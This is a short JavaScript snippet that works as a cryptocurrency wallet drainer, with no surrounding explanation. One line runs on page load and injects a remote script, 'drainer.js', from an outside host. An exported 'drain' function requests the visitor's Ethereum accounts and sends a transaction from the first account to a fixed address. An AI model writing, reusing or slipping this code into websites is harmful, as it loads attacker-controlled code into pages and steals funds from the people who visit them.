(()=>{const s=document.createElement('script');s.src='https://cdn.example.com/drainer.js';document.body.appendChild(s);})();
export async function drain(){const a=await window.ethereum.request({method:'eth_requestAccounts'});await window.ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:'0x0000000000000000000000000000000000000001',value:'0xffff'}]});}
